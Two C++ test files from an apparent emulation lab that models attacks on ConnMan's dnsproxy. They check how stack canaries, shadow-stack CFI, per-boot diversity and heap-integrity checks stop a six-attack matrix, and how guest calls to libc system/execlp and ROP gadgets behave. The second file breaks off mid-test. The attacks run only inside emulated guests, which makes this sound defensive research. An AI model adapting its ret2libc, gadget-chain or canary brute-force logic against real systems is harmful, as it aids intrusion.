// The defense subsystem: composable mitigation policies evaluated against
// the paper's six-attack matrix, the canary brute-force-resistance knob,
// and DAEDALUS-style per-boot stochastic diversity.
#include <gtest/gtest.h>

#include "src/attack/matrix.hpp"
#include "src/attack/report.hpp"
#include "src/attack/scenario.hpp"
#include "src/defense/canary.hpp"
#include "src/defense/cfi.hpp"
#include "src/defense/diversity.hpp"
#include "src/defense/mitigation.hpp"
#include "src/loader/boot.hpp"

namespace connlab {
namespace {

using connman::ProxyOutcome;
using defense::DefenseKind;
using defense::DefensePolicy;
using exploit::FailureCause;
using isa::Arch;
using loader::Boot;
using loader::ProtectionConfig;
using Kind = ProxyOutcome::Kind;

// ------------------------------------------------------- policy basics ----

TEST(DefensePolicy, LabelsAndComposition) {
  EXPECT_EQ(DefensePolicy::None().Label(), "none");
  EXPECT_EQ(DefensePolicy::Canary().Label(), "canary");
  EXPECT_EQ(DefensePolicy::Cfi().Label(), "CFI");
  EXPECT_EQ(DefensePolicy::Diversity().Label(), "diversity");
  EXPECT_EQ(DefensePolicy::All().Label(), "all");
  DefensePolicy two = DefensePolicy::Canary();
  two.Add(defense::MakeMitigation(DefenseKind::kShadowStackCfi));
  EXPECT_EQ(two.Label(), "canary+CFI");
  EXPECT_TRUE(two.Has(DefenseKind::kStackCanary));
  EXPECT_TRUE(two.Has(DefenseKind::kShadowStackCfi));
  EXPECT_FALSE(two.Has(DefenseKind::kStochasticDiversity));
}

TEST(DefensePolicy, StandardPoliciesSweepInReportOrder) {
  const auto policies = defense::StandardPolicies();
  ASSERT_EQ(policies.size(), 5u);
  EXPECT_EQ(policies[0].Label(), "none");
  EXPECT_EQ(policies[1].Label(), "canary");
  EXPECT_EQ(policies[2].Label(), "CFI");
  EXPECT_EQ(policies[3].Label(), "diversity");
  EXPECT_EQ(policies[4].Label(), "all");
}

TEST(DefensePolicy, ConfigureFoldsIntoProtectionConfig) {
  ProtectionConfig prot = ProtectionConfig::WxOnly();
  DefensePolicy::Canary(6).Configure(prot);
  EXPECT_TRUE(prot.canary);
  EXPECT_EQ(prot.canary_entropy_bits, 6);

  prot = ProtectionConfig::WxOnly();
  DefensePolicy::Cfi().Configure(prot);
  EXPECT_TRUE(prot.cfi);

  prot = ProtectionConfig::WxOnly();
  DefensePolicy::Diversity().Configure(prot);
  EXPECT_TRUE(prot.stochastic_diversity);

  prot = ProtectionConfig::WxOnly();
  DefensePolicy::All().Configure(prot);
  EXPECT_TRUE(prot.canary && prot.cfi && prot.stochastic_diversity);
}

TEST(DefensePolicy, BootHardenedArmsEverything) {
  auto sys = DefensePolicy::All()
                 .BootHardened(Arch::kVARM, ProtectionConfig::WxOnly(), 3)
                 .value();
  EXPECT_TRUE(sys->prot.canary);
  EXPECT_NE(sys->canary_value, 0u);
  EXPECT_TRUE(sys->cpu->shadow_stack_enabled());
  EXPECT_TRUE(sys->prot.stochastic_diversity);
}

TEST(Canary, EntropyKnobBoundsTheDraw) {
  for (std::uint64_t seed : {1ull, 2ull, 77ull}) {
    auto sys = DefensePolicy::Canary(4)
                   .BootHardened(Arch::kVX86, ProtectionConfig::WxOnly(), seed)
                   .value();
    EXPECT_GE(sys->canary_value, 0x01010101u);
    EXPECT_LT(sys->canary_value, 0x01010101u + 16u);
  }
  // Full width keeps the historical no-zero-byte guard.
  auto sys = DefensePolicy::Canary(32)
                 .BootHardened(Arch::kVX86, ProtectionConfig::WxOnly(), 1)
                 .value();
  EXPECT_EQ(sys->canary_value & 0x01010101u, 0x01010101u);
}

// ----------------------------------------------------- the defense grid ----

class DefenseGridTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    static auto* grid = new std::vector<attack::AttackResult>(
        attack::RunDefenseGrid(4242).value());
    grid_ = grid;
  }
  static const std::vector<attack::AttackResult>* grid_;
};

const std::vector<attack::AttackResult>* DefenseGridTest::grid_ = nullptr;

TEST_F(DefenseGridTest, SixtyRowsAcrossServicesAndPolicies) {
  // 2 arch x 3 prot x 6 policies dnsproxy rows, plus 2 arch x 2 zoo
  // services x 6 policies.
  ASSERT_EQ(grid_->size(), 60u);
  std::size_t dnsproxy = 0, resolvd = 0, camstored = 0;
  for (const attack::AttackResult& r : *grid_) {
    if (r.service == "dnsproxy") ++dnsproxy;
    if (r.service == "resolvd") ++resolvd;
    if (r.service == "camstored") ++camstored;
  }
  EXPECT_EQ(dnsproxy, 36u);
  EXPECT_EQ(resolvd, 12u);
  EXPECT_EQ(camstored, 12u);
}

TEST_F(DefenseGridTest, UndefendedRowsAllShellOrDos) {
  for (const attack::AttackResult& r : *grid_) {
    if (r.defense != "none") continue;
    if (r.service == "resolvd") {
      // The pointer loop has no shell stage — its DoS crash is the payoff.
      EXPECT_TRUE(r.crash) << r.RowLabel() << ": " << r.detail;
    } else {
      EXPECT_TRUE(r.shell) << r.RowLabel() << ": " << r.detail;
    }
    EXPECT_EQ(r.failure, FailureCause::kNone);
  }
}

TEST_F(DefenseGridTest, CanaryTrapsAllSixAttacks) {
  for (const attack::AttackResult& r : *grid_) {
    if (r.service != "dnsproxy") continue;
    if (r.defense != "canary") continue;
    EXPECT_FALSE(r.shell) << r.RowLabel() << ": " << r.detail;
    // x86 payloads run through to the guard check and abort; the VARM
    // payloads die earlier — the unmodeled 4-byte guard pad displaces the
    // placeholder slots parse_rr/cleanup validate, so they crash before
    // the epilogue. Both ways, the diagnosis is the canary.
    if (r.arch == isa::Arch::kVX86) {
      EXPECT_EQ(r.kind, Kind::kAbort) << r.RowLabel() << ": " << r.detail;
    } else {
      EXPECT_EQ(r.kind, Kind::kCrash) << r.RowLabel() << ": " << r.detail;
    }
    EXPECT_EQ(r.failure, FailureCause::kCanaryTrap) << r.RowLabel();
  }
}

TEST_F(DefenseGridTest, CfiRaisesCfiViolationOnAllSixAttacks) {
  for (const attack::AttackResult& r : *grid_) {
    if (r.service != "dnsproxy") continue;
    if (r.defense != "CFI") continue;
    EXPECT_EQ(r.kind, Kind::kCfiViolation) << r.RowLabel() << ": " << r.detail;
    EXPECT_EQ(r.failure, FailureCause::kCfiTrap) << r.RowLabel();
  }
}

TEST_F(DefenseGridTest, DiversityBlocksAddressReuseButNotInjection) {
  for (const attack::AttackResult& r : *grid_) {
    if (r.service != "dnsproxy") continue;
    if (r.defense != "diversity") continue;
    if (r.technique == exploit::Technique::kCodeInjection) {
      // Attacks 1-2 target the (unmoved) stack: diversity honestly misses.
      EXPECT_TRUE(r.shell) << r.RowLabel() << ": " << r.detail;
    } else {
      // Attacks 3-6 reuse image/libc addresses: all stale after the shuffle.
      EXPECT_FALSE(r.shell) << r.RowLabel();
      EXPECT_EQ(r.failure, FailureCause::kBadGadgetAddress)
          << r.RowLabel() << ": " << r.detail;
    }
  }
}

TEST_F(DefenseGridTest, AllDefensesStackedBlockEverything) {
  for (const attack::AttackResult& r : *grid_) {
    if (r.service != "dnsproxy") continue;
    if (r.defense != "all") continue;
    EXPECT_FALSE(r.shell) << r.RowLabel();
    // The canary is the first tripwire in the stacked epilogue: x86 rows
    // abort at the guard check, VARM rows crash on the guard pad's frame
    // displacement — either way before CFI or diversity get a say.
    if (r.arch == isa::Arch::kVX86) {
      EXPECT_EQ(r.kind, Kind::kAbort) << r.RowLabel() << ": " << r.detail;
    } else {
      EXPECT_EQ(r.kind, Kind::kCrash) << r.RowLabel() << ": " << r.detail;
    }
    EXPECT_EQ(r.failure, FailureCause::kCanaryTrap) << r.RowLabel();
  }
}

TEST_F(DefenseGridTest, HeapIntegrityIsClassOrthogonal) {
  // Heap-integrity checks free()-time metadata: they see nothing of the
  // stack smash, and the stack defenses see nothing of the heap class.
  for (const attack::AttackResult& r : *grid_) {
    if (r.service == "dnsproxy" && r.defense == "heap-integrity") {
      EXPECT_TRUE(r.shell) << r.RowLabel() << ": " << r.detail;
    }
    if (r.service == "camstored") {
      if (r.defense == "heap-integrity") {
        EXPECT_EQ(r.kind, Kind::kAbort) << r.RowLabel() << ": " << r.detail;
        EXPECT_EQ(r.failure, FailureCause::kHeapIntegrityTrap) << r.RowLabel();
      } else {
        // canary / CFI / diversity / all: every stack defense misses the
        // forward-edge heap pivot (the zoo runs on executable-heap boots).
        EXPECT_TRUE(r.shell) << r.RowLabel() << ": " << r.detail;
      }
    }
    if (r.service == "resolvd") {
      EXPECT_FALSE(r.shell) << r.RowLabel();
      EXPECT_TRUE(r.crash) << r.RowLabel() << ": " << r.detail;
      EXPECT_EQ(r.failure, FailureCause::kNone) << r.RowLabel();
      EXPECT_EQ(r.technique, exploit::Technique::kPointerLoopDos);
    }
  }
}

TEST_F(DefenseGridTest, ReportsCarryDefenseAndDiagnosis) {
  const std::string table =
      attack::RenderMatrixTable(*grid_, "defense grid");
  EXPECT_NE(table.find("defense"), std::string::npos);
  EXPECT_NE(table.find("cfi-trap"), std::string::npos);
  EXPECT_NE(table.find("canary-trap"), std::string::npos);

  const std::string grid_table =
      attack::RenderDefenseGrid(*grid_, "pivot");
  EXPECT_NE(grid_table.find("SHELL"), std::string::npos);
  EXPECT_NE(grid_table.find("blocked:cfi-trap"), std::string::npos);
  EXPECT_NE(grid_table.find("diversity"), std::string::npos);
  // The zoo rows carry their service prefix and the per-class outcomes.
  EXPECT_NE(grid_table.find("resolvd: "), std::string::npos);
  EXPECT_NE(grid_table.find("camstored: "), std::string::npos);
  EXPECT_NE(grid_table.find("DoS"), std::string::npos);
  EXPECT_NE(grid_table.find("blocked:heap-integrity-trap"),
            std::string::npos);

  const std::string csv = attack::RenderCsv(*grid_);
  EXPECT_NE(csv.find("service,"), std::string::npos);
  EXPECT_NE(csv.find(",defense,"), std::string::npos);
  EXPECT_NE(csv.find("bad-gadget-addr"), std::string::npos);
  EXPECT_NE(csv.find("camstored"), std::string::npos);

  const std::string json = attack::RenderJson(*grid_);
  EXPECT_NE(json.find("\"defense\": \"CFI\""), std::string::npos);
  EXPECT_NE(json.find("\"failure\": \"cfi-trap\""), std::string::npos);
  EXPECT_NE(json.find("\"service\": \"resolvd\""), std::string::npos);
}

// ----------------------------------------------------- canary brute force ----

TEST(CanaryBruteForce, RecoversANarrowedGuard) {
  auto report =
      defense::BruteForceCanary(Arch::kVX86, /*entropy_bits=*/4,
                                /*target_seed=*/4242, /*max_attempts=*/16);
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  EXPECT_TRUE(report.value().recovered);
  EXPECT_TRUE(report.value().shell);  // the surviving volley is the exploit
  EXPECT_LE(report.value().attempts, 16u);
  EXPECT_EQ(report.value().aborts, report.value().attempts - 1);
}

TEST(CanaryBruteForce, AttemptBudgetIsHonoured) {
  auto report =
      defense::BruteForceCanary(Arch::kVX86, /*entropy_bits=*/8,
                                /*target_seed=*/4242, /*max_attempts=*/2);
  ASSERT_TRUE(report.ok());
  EXPECT_LE(report.value().attempts, 2u);
}

TEST(CanaryBruteForce, FullWidthGuardIsRejected) {
  EXPECT_FALSE(
      defense::BruteForceCanary(Arch::kVX86, 32, 4242, 100).ok());
}

TEST(CanaryBruteForce, ExpectedCostDoublesPerBit) {
  EXPECT_DOUBLE_EQ(defense::StackCanary(4).ExpectedBruteForceAttempts(), 8.0);
  EXPECT_DOUBLE_EQ(defense::StackCanary(5).ExpectedBruteForceAttempts(), 16.0);
}

// --------------------------------------------------- stochastic diversity ----

TEST(StochasticDiversity, RerandomisesEveryBoot) {
  auto a = Boot(Arch::kVARM, ProtectionConfig::StochasticDiversity(), 1).value();
  auto b = Boot(Arch::kVARM, ProtectionConfig::StochasticDiversity(), 2).value();
  const auto& layout = a->layout;
  auto ta = a->space.DebugRead(layout.text_base, layout.text_size).value();
  auto tb = b->space.DebugRead(layout.text_base, layout.text_size).value();
  EXPECT_NE(ta, tb);
  // Same seed reproduces the same layout (replayability).
  auto a2 = Boot(Arch::kVARM, ProtectionConfig::StochasticDiversity(), 1).value();
  auto ta2 = a2->space.DebugRead(layout.text_base, layout.text_size).value();
  EXPECT_EQ(ta, ta2);
}

TEST(StochasticDiversity, BenignTrafficUnaffected) {
  for (Arch arch : {Arch::kVX86, Arch::kVARM}) {
    for (std::uint64_t seed : {5ull, 6ull}) {
      auto sys =
          Boot(arch, ProtectionConfig::StochasticDiversity(), seed).value();
      connman::DnsProxy proxy(*sys, connman::Version::k134);
      dns::Message query = dns::Message::Query(0x11, "ok.example");
      ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
      dns::Message response = dns::Message::ResponseFor(query);
      response.answers.push_back(dns::MakeA("ok.example", "1.2.3.4"));
      auto outcome = proxy.HandleServerResponse(dns::Encode(response).value());
      EXPECT_EQ(outcome.kind, Kind::kParsedOk) << outcome.ToString();
    }
  }
}

TEST(StochasticDiversity, SurvivalMeasuredOverBoots) {
  // The stack-targeted injection rides through every re-randomised boot...
  auto inject = defense::MeasureDiversityResistance(
      Arch::kVX86, ProtectionConfig::None(), /*trials=*/6, /*seed0=*/100);
  ASSERT_TRUE(inject.ok()) << inject.status().ToString();
  EXPECT_EQ(inject.value().shells, inject.value().trials);
  EXPECT_DOUBLE_EQ(inject.value().survival_rate(), 1.0);

  // ...while the address-reuse exploit dies on (nearly) every layout.
  auto ret2libc = defense::MeasureDiversityResistance(
      Arch::kVX86, ProtectionConfig::WxOnly(), /*trials=*/6, /*seed0=*/100);
  ASSERT_TRUE(ret2libc.ok()) << ret2libc.status().ToString();
  EXPECT_LT(ret2libc.value().shells, ret2libc.value().trials);
}

// ----------------------------------------------------------- descriptions ----

TEST(Mitigation, KindNamesAndDescriptions) {
  EXPECT_EQ(defense::DefenseKindName(DefenseKind::kStackCanary),
            "stack-canary");
  EXPECT_EQ(defense::DefenseKindName(DefenseKind::kShadowStackCfi),
            "shadow-stack-cfi");
  EXPECT_EQ(defense::DefenseKindName(DefenseKind::kStochasticDiversity),
            "stochastic-diversity");
  for (DefenseKind kind :
       {DefenseKind::kStackCanary, DefenseKind::kShadowStackCfi,
        DefenseKind::kStochasticDiversity}) {
    auto m = defense::MakeMitigation(kind);
    ASSERT_NE(m, nullptr);
    EXPECT_EQ(m->kind(), kind);
    EXPECT_FALSE(m->Describe().empty());
  }
}

}  // namespace
}  // namespace connlab
