// Loader tests: layouts, ASLR behaviour, symbol tables, image loading, and
// end-to-end guest execution of PLT/libc paths on both architectures.
#include <gtest/gtest.h>

#include <vector>

#include "src/isa/assembler.hpp"
#include "src/isa/disasm.hpp"
#include "src/isa/vx86.hpp"
#include "src/loader/boot.hpp"
#include "src/loader/layout.hpp"
#include "src/loader/libc_image.hpp"
#include "src/loader/snapshot.hpp"
#include "src/vm/decode_plan.hpp"

namespace connlab::loader {
namespace {

using isa::Arch;

TEST(ProtectionConfig, ToStringLevels) {
  EXPECT_EQ(ProtectionConfig::None().ToString(), "none");
  EXPECT_EQ(ProtectionConfig::WxOnly().ToString(), "W^X");
  EXPECT_EQ(ProtectionConfig::WxAslr().ToString(), "W^X+ASLR");
  EXPECT_EQ(ProtectionConfig::All().ToString(), "W^X+ASLR+canary");
}

TEST(Layout, MainImageIsBelowLibcAndStack) {
  for (Arch arch : {Arch::kVX86, Arch::kVARM}) {
    const Layout l = DefaultLayout(arch);
    EXPECT_LT(l.text_base, l.libc_base);
    EXPECT_LT(l.libc_base + l.libc_size, l.stack_base());
    EXPECT_LT(l.initial_sp(), l.stack_top);
    EXPECT_GT(l.initial_sp(), l.stack_base());
  }
}

TEST(Layout, AslrOffLeavesEverythingFixed) {
  util::Rng rng(1);
  const Layout a = RandomizedLayout(Arch::kVX86, ProtectionConfig::WxOnly(), rng);
  const Layout b = DefaultLayout(Arch::kVX86);
  EXPECT_EQ(a.libc_base, b.libc_base);
  EXPECT_EQ(a.stack_top, b.stack_top);
}

TEST(Layout, AslrRandomizesOnlyLibcAndStack) {
  util::Rng rng(7);
  const Layout base = DefaultLayout(Arch::kVARM);
  bool libc_moved = false;
  bool stack_moved = false;
  for (int i = 0; i < 32; ++i) {
    const Layout l = RandomizedLayout(Arch::kVARM, ProtectionConfig::WxAslr(), rng);
    EXPECT_EQ(l.text_base, base.text_base);
    EXPECT_EQ(l.bss_base, base.bss_base);
    EXPECT_EQ(l.got_base, base.got_base);
    EXPECT_LE(l.libc_base, base.libc_base);
    EXPECT_LE(l.stack_top, base.stack_top);
    EXPECT_EQ(l.libc_base % 0x1000, 0u);
    EXPECT_EQ(l.stack_top % 0x1000, 0u);
    libc_moved |= l.libc_base != base.libc_base;
    stack_moved |= l.stack_top != base.stack_top;
  }
  EXPECT_TRUE(libc_moved);
  EXPECT_TRUE(stack_moved);
}

TEST(SymbolTable, DefineLookupDescribe) {
  SymbolTable t;
  ASSERT_TRUE(t.Define("foo", 0x1000).ok());
  ASSERT_TRUE(t.Define("bar", 0x2000).ok());
  EXPECT_FALSE(t.Define("foo", 0x3000).ok());
  EXPECT_EQ(t.Lookup("foo").value(), 0x1000u);
  EXPECT_FALSE(t.Lookup("baz").ok());
  EXPECT_EQ(t.Describe(0x1000), "foo");
  EXPECT_EQ(t.Describe(0x1010), "foo+0x10");
  EXPECT_EQ(t.Describe(0x2004), "bar+0x4");
  EXPECT_EQ(t.Describe(0x10), "0x00000010");
}

class BootTest : public ::testing::TestWithParam<Arch> {};

TEST_P(BootTest, BootsWithExpectedSegments) {
  auto sys = Boot(GetParam(), ProtectionConfig::None(), 42);
  ASSERT_TRUE(sys.ok()) << sys.status().ToString();
  const auto& space = sys.value()->space;
  for (const char* name :
       {".text", ".rodata", ".got", ".bss", ".scratch", "heap", "libc", "stack"}) {
    EXPECT_NE(space.FindSegmentByName(name), nullptr) << name;
  }
}

TEST_P(BootTest, WxControlsStackExecutability) {
  auto lax = Boot(GetParam(), ProtectionConfig::None(), 1);
  auto strict = Boot(GetParam(), ProtectionConfig::WxOnly(), 1);
  ASSERT_TRUE(lax.ok());
  ASSERT_TRUE(strict.ok());
  const auto* lax_stack = lax.value()->space.FindSegmentByName("stack");
  const auto* strict_stack = strict.value()->space.FindSegmentByName("stack");
  EXPECT_TRUE(Has(lax_stack->perms(), mem::Perm::kExec));
  EXPECT_FALSE(Has(strict_stack->perms(), mem::Perm::kExec));
}

TEST_P(BootTest, CoreSymbolsPresent) {
  auto sys = Boot(GetParam(), ProtectionConfig::None(), 3);
  ASSERT_TRUE(sys.ok());
  for (const char* sym :
       {"connman._start", "connman.parse_response", "connman.get_name",
        "connman.parse_rr", "connman.resume_ok", "plt.memcpy", "plt.execlp",
        "plt.__strcpy_chk", "got.memcpy", "libc.system", "libc.exit",
        "libc.memcpy", "libc.execlp", "libc.str.bin_sh", "bss.start"}) {
    EXPECT_TRUE(sys.value()->symbols.Has(sym)) << sym;
  }
  // Connman has no plain strcpy — the constraint that forces the paper's
  // memcpy chain.
  EXPECT_FALSE(sys.value()->symbols.Has("plt.strcpy"));
}

TEST_P(BootTest, GotResolvesToLibc) {
  auto sys = Boot(GetParam(), ProtectionConfig::None(), 4);
  ASSERT_TRUE(sys.ok());
  auto& s = *sys.value();
  const auto got = s.Sym("got.memcpy").value();
  const auto libc_memcpy = s.Sym("libc.memcpy").value();
  EXPECT_EQ(s.space.ReadU32(got).value(), libc_memcpy);
}

TEST_P(BootTest, BinShStringLoaded) {
  auto sys = Boot(GetParam(), ProtectionConfig::None(), 5);
  ASSERT_TRUE(sys.ok());
  auto& s = *sys.value();
  const auto addr = s.Sym("libc.str.bin_sh").value();
  EXPECT_EQ(s.space.ReadCString(addr).value(), "/bin/sh");
  EXPECT_EQ(addr, s.layout.libc_base + kLibcBinShOff);
}

TEST_P(BootTest, DeterministicImageAcrossBoots) {
  auto a = Boot(GetParam(), ProtectionConfig::None(), 10);
  auto b = Boot(GetParam(), ProtectionConfig::None(), 999);  // different seed
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(b.ok());
  // The main image bytes and symbols are identical regardless of seed (only
  // ASLR-covered bases and the canary depend on it).
  const auto& la = a.value()->layout;
  auto ta = a.value()->space.DebugRead(la.text_base, la.text_size).value();
  auto tb = b.value()->space.DebugRead(la.text_base, la.text_size).value();
  EXPECT_EQ(ta, tb);
  EXPECT_EQ(a.value()->Sym("gadget.pppr").value_or(0),
            b.value()->Sym("gadget.pppr").value_or(0));
}

TEST_P(BootTest, AslrMovesLibcAcrossSeeds) {
  auto a = Boot(GetParam(), ProtectionConfig::WxAslr(), 10);
  auto b = Boot(GetParam(), ProtectionConfig::WxAslr(), 11);
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(b.ok());
  EXPECT_NE(a.value()->layout.libc_base, b.value()->layout.libc_base);
  EXPECT_EQ(a.value()->layout.text_base, b.value()->layout.text_base);
}

TEST_P(BootTest, SameSeedSameAslrDraw) {
  auto a = Boot(GetParam(), ProtectionConfig::WxAslr(), 77);
  auto b = Boot(GetParam(), ProtectionConfig::WxAslr(), 77);
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(b.ok());
  EXPECT_EQ(a.value()->layout.libc_base, b.value()->layout.libc_base);
  EXPECT_EQ(a.value()->layout.stack_top, b.value()->layout.stack_top);
}

TEST_P(BootTest, HighEntropyBootStillPlacesStack) {
  ProtectionConfig prot = ProtectionConfig::WxAslr();
  prot.aslr_entropy_bits = 16;
  for (std::uint64_t seed = 0; seed < 8; ++seed) {
    auto sys = Boot(GetParam(), prot, seed);
    EXPECT_TRUE(sys.ok()) << sys.status().ToString();
  }
}

TEST_P(BootTest, CanaryValueSetOnlyWhenEnabled) {
  auto off = Boot(GetParam(), ProtectionConfig::WxAslr(), 5);
  auto on = Boot(GetParam(), ProtectionConfig::All(), 5);
  ASSERT_TRUE(off.ok());
  ASSERT_TRUE(on.ok());
  EXPECT_EQ(off.value()->canary_value, 0u);
  EXPECT_NE(on.value()->canary_value, 0u);
}

// --- Guest execution through PLT and libc ----------------------------------

TEST_P(BootTest, CallingSystemViaLibcSpawnsShell) {
  auto boot = Boot(GetParam(), ProtectionConfig::None(), 21);
  ASSERT_TRUE(boot.ok());
  auto& sys = *boot.value();
  // Plant a command string on the heap and call libc.system per convention.
  const mem::GuestAddr cmd = sys.layout.heap_base;
  util::Bytes text = util::BytesOf("id");
  text.push_back(0);
  ASSERT_TRUE(sys.space.WriteBytes(cmd, text).ok());
  const auto system_addr = sys.Sym("libc.system").value();
  if (GetParam() == Arch::kVX86) {
    ASSERT_TRUE(sys.cpu->Push(cmd).ok());        // argument
    ASSERT_TRUE(sys.cpu->Push(0xDEAD0001).ok()); // fake return address
  } else {
    sys.cpu->set_reg(isa::kR0, cmd);
    sys.cpu->set_reg(isa::kLR, 0xDEAD0001);
  }
  sys.cpu->set_pc(system_addr);
  auto stop = sys.cpu->Run(100);
  EXPECT_EQ(stop.reason, vm::StopReason::kShellSpawned);
  ASSERT_FALSE(sys.cpu->events().empty());
  EXPECT_EQ(sys.cpu->events().back().kind, vm::EventKind::kShellSpawned);
}

TEST_P(BootTest, MemcpyThroughPltCopiesGuestMemory) {
  auto boot = Boot(GetParam(), ProtectionConfig::WxAslr(), 22);
  ASSERT_TRUE(boot.ok());
  auto& sys = *boot.value();
  const mem::GuestAddr src = sys.layout.heap_base;
  const mem::GuestAddr dst = sys.layout.bss_base;
  ASSERT_TRUE(sys.space.WriteBytes(src, util::BytesOf("COPYME")).ok());
  const auto plt_memcpy = sys.Sym("plt.memcpy").value();
  const auto resume = sys.Sym("connman.resume_ok").value();
  if (GetParam() == Arch::kVX86) {
    // cdecl frame: ret, dest, src, len, (frame word read by the epilogue).
    ASSERT_TRUE(sys.cpu->Push(0xAAAAAAAA).ok());
    ASSERT_TRUE(sys.cpu->Push(6).ok());
    ASSERT_TRUE(sys.cpu->Push(src).ok());
    ASSERT_TRUE(sys.cpu->Push(dst).ok());
    ASSERT_TRUE(sys.cpu->Push(resume).ok());
  } else {
    sys.cpu->set_reg(isa::kR0, dst);
    sys.cpu->set_reg(isa::kR1, src);
    sys.cpu->set_reg(isa::kR2, 6);
    sys.cpu->set_reg(isa::kLR, resume);
  }
  sys.cpu->set_pc(plt_memcpy);
  auto stop = sys.cpu->Run(100);
  EXPECT_EQ(stop.reason, vm::StopReason::kHalted) << stop.ToString();
  EXPECT_EQ(sys.space.ReadBytes(dst, 6).value(), util::BytesOf("COPYME"));
}

TEST_P(BootTest, MemcpyIntoTextFaults) {
  auto boot = Boot(GetParam(), ProtectionConfig::None(), 23);
  ASSERT_TRUE(boot.ok());
  auto& sys = *boot.value();
  const auto libc_memcpy = sys.Sym("libc.memcpy").value();
  if (GetParam() == Arch::kVX86) {
    ASSERT_TRUE(sys.cpu->Push(0xAAAAAAAA).ok());
    ASSERT_TRUE(sys.cpu->Push(4).ok());
    ASSERT_TRUE(sys.cpu->Push(sys.layout.heap_base).ok());
    ASSERT_TRUE(sys.cpu->Push(sys.layout.text_base).ok());  // read-only dest
    ASSERT_TRUE(sys.cpu->Push(0xDEAD0001).ok());
  } else {
    sys.cpu->set_reg(isa::kR0, sys.layout.text_base);
    sys.cpu->set_reg(isa::kR1, sys.layout.heap_base);
    sys.cpu->set_reg(isa::kR2, 4);
    sys.cpu->set_reg(isa::kLR, 0xDEAD0001);
  }
  sys.cpu->set_pc(libc_memcpy);
  auto stop = sys.cpu->Run(100);
  EXPECT_EQ(stop.reason, vm::StopReason::kFault);
}

TEST_P(BootTest, ExeclpShRequiresNullTerminatedArgs) {
  auto boot = Boot(GetParam(), ProtectionConfig::None(), 24);
  ASSERT_TRUE(boot.ok());
  auto& sys = *boot.value();
  const mem::GuestAddr file = sys.layout.heap_base + 0x100;
  util::Bytes name = util::BytesOf("sh");
  name.push_back(0);
  ASSERT_TRUE(sys.space.WriteBytes(file, name).ok());
  const auto execlp = sys.Sym("libc.execlp").value();
  if (GetParam() == Arch::kVX86) {
    ASSERT_TRUE(sys.cpu->Push(0).ok());          // vararg NULL terminator
    ASSERT_TRUE(sys.cpu->Push(file).ok());       // file
    ASSERT_TRUE(sys.cpu->Push(0xBBBBBBBB).ok()); // return address (unused)
  } else {
    sys.cpu->set_reg(isa::kR0, file);
    sys.cpu->set_reg(isa::kR1, 0);  // NULL terminator, as in Listing 2
  }
  sys.cpu->set_pc(execlp);
  auto stop = sys.cpu->Run(100);
  EXPECT_EQ(stop.reason, vm::StopReason::kShellSpawned) << stop.ToString();
}

TEST(BootArm, ExeclpWithoutNullTerminatorFaults) {
  auto boot = Boot(Arch::kVARM, ProtectionConfig::None(), 25);
  ASSERT_TRUE(boot.ok());
  auto& sys = *boot.value();
  const mem::GuestAddr file = sys.layout.heap_base;
  util::Bytes name = util::BytesOf("sh");
  name.push_back(0);
  ASSERT_TRUE(sys.space.WriteBytes(file, name).ok());
  sys.cpu->set_reg(isa::kR0, file);
  sys.cpu->set_reg(isa::kR1, 0x41414141);
  sys.cpu->set_reg(isa::kR2, 0x41414141);
  sys.cpu->set_reg(isa::kR3, 0x41414141);
  sys.cpu->set_pc(sys.Sym("libc.execlp").value());
  auto stop = sys.cpu->Run(100);
  EXPECT_EQ(stop.reason, vm::StopReason::kFault);
}

TEST(BootX86, GadgetPpprPopsFourWordsAndRets) {
  auto boot = Boot(Arch::kVX86, ProtectionConfig::None(), 26);
  ASSERT_TRUE(boot.ok());
  auto& sys = *boot.value();
  const auto resume = sys.Sym("connman.resume_ok").value();
  ASSERT_TRUE(sys.cpu->Push(resume).ok());  // final ret target
  ASSERT_TRUE(sys.cpu->Push(4).ok());
  ASSERT_TRUE(sys.cpu->Push(3).ok());
  ASSERT_TRUE(sys.cpu->Push(2).ok());
  ASSERT_TRUE(sys.cpu->Push(1).ok());
  sys.cpu->set_pc(sys.Sym("gadget.pppr").value());
  auto stop = sys.cpu->Run(100);
  EXPECT_EQ(stop.reason, vm::StopReason::kHalted);
  EXPECT_EQ(sys.cpu->reg(isa::kESI), 1u);
  EXPECT_EQ(sys.cpu->reg(isa::kEDI), 2u);
  EXPECT_EQ(sys.cpu->reg(isa::kEBX), 3u);
  EXPECT_EQ(sys.cpu->reg(isa::kEBP), 4u);
}

TEST(BootArm, PopRegsGadgetLoadsSevenRegistersAndPc) {
  auto boot = Boot(Arch::kVARM, ProtectionConfig::None(), 27);
  ASSERT_TRUE(boot.ok());
  auto& sys = *boot.value();
  const auto resume = sys.Sym("connman.resume_ok").value();
  // Frame per Listing 2: r0, r1, r2, r3, r5, r6, r7, pc.
  const std::uint32_t frame[] = {0xA0, 0xA1, 0xA2, 0xA3, 0xA5, 0xA6, 0xA7, resume};
  std::uint32_t sp = sys.layout.initial_sp() - sizeof(frame);
  sys.cpu->set_sp(sp);
  for (std::uint32_t w : frame) {
    ASSERT_TRUE(sys.space.WriteU32(sp, w).ok());
    sp += 4;
  }
  sys.cpu->set_pc(sys.Sym("gadget.pop_regs_pc").value());
  auto stop = sys.cpu->Run(100);
  EXPECT_EQ(stop.reason, vm::StopReason::kHalted) << stop.ToString();
  EXPECT_EQ(sys.cpu->reg(isa::kR0), 0xA0u);
  EXPECT_EQ(sys.cpu->reg(isa::kR3), 0xA3u);
  EXPECT_EQ(sys.cpu->reg(isa::kR5), 0xA5u);
  EXPECT_EQ(sys.cpu->reg(isa::kR7), 0xA7u);
  // r4 is intentionally not part of the gadget.
  EXPECT_EQ(sys.cpu->reg(isa::kR4), 0u);
}

INSTANTIATE_TEST_SUITE_P(BothArchs, BootTest,
                         ::testing::Values(Arch::kVX86, Arch::kVARM),
                         [](const auto& info) {
                           return info.param == Arch::kVX86 ? "vx86" : "varm";
                         });

// --- Snapshot / restore fast reboots ---------------------------------------

TEST(Snapshot, RoundTripRestoresMemoryAndCpu) {
  for (Arch arch : {Arch::kVX86, Arch::kVARM}) {
    auto sys = Boot(arch, ProtectionConfig::None(), 5).value();
    const Snapshot snap = TakeSnapshot(*sys);
    const std::uint32_t sp0 = sys->cpu->sp();
    const mem::GuestAddr stack_probe = sp0 - 64;
